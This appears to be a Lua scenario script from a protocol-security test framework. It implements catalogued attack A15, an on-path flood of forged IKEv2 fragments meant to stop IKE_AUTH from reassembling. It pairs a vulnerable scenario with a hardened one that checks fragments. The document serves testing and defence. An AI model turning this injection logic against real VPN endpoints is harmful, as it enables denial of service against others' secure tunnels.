-- Fragments of an IKE message, for an exchange that somebody else is in. Each carries an ICV of its own (RFC 7383, 2.5), so that junk can be told
-- from the rest before it is kept. Who keeps first and looks later fills its memory with junk, and has no room for what is genuine.
attack = {
  id = "A15", name = "fragment-flood",
  about = "Answers each IKE_SA_INIT with fragments of junk for the IKE_AUTH that will follow, faster than the genuine ones",
  position = "on-path",
  needs = "the SPIs, which IKE_SA_INIT shows; IKE_AUTH that goes in fragments",
  source = "RFC 7383, 2.6 and 5; CVE-2016-10396; catalogue A15",
  shows = {
    vulnerable = "fragments are kept unseen: junk takes the numbers and the room of the genuine ones, and IKE_AUTH never becomes whole",
    hardened = "each fragment is checked before it is kept: junk is dropped, and the tunnel comes up",
  },
  scenarios = { vulnerable = "fragment-flood", hardened = "fragment-flood-checked" },
}

-- Parameter: count = 70
local count, up, sent = 70, false, 0
function on_start(params) count = tonumber(params.count or count) end

on({ exchange = "IKE_SA_INIT", response = true, payload = "KE" }, function(p, message)
  if sent > 0 then return end
  mark("IKE_SA_INIT is answered: the SPIs are known, and mallory is ready before the initiator is.")
  for i = 1, count do
    sent = sent + 1
    -- the first ones contradict the genuine fragments 1 and 2; the rest are of messages that never become whole
    local body = string.pack(">I2I2", i <= 2 and i or 1, i <= 2 and 3 or 9) .. crypto.random(100)
    inject{ src = p.dst, src_port = p.dst_port, dst = p.src, dst_port = p.src_port, protocol = "IKE", to = p.from, note = "a fragment of junk",
      payload = ike.encode{ spi_i = message.spi_i, spi_r = message.spi_r, exchange = 35, initiator = true, message_id = i <= 2 and 1 or i,
        payloads = { { number = 53, body = body } } } }
  end
end)
on({ exchange = "IKE_AUTH", response = true }, function() up = true end)

function on_finish()
  achieved("keep IKE_AUTH from becoming whole", not up, sent .. " fragments of junk; " .. (up and "IKE_AUTH was answered all the same" or "IKE_AUTH was never answered"))
end
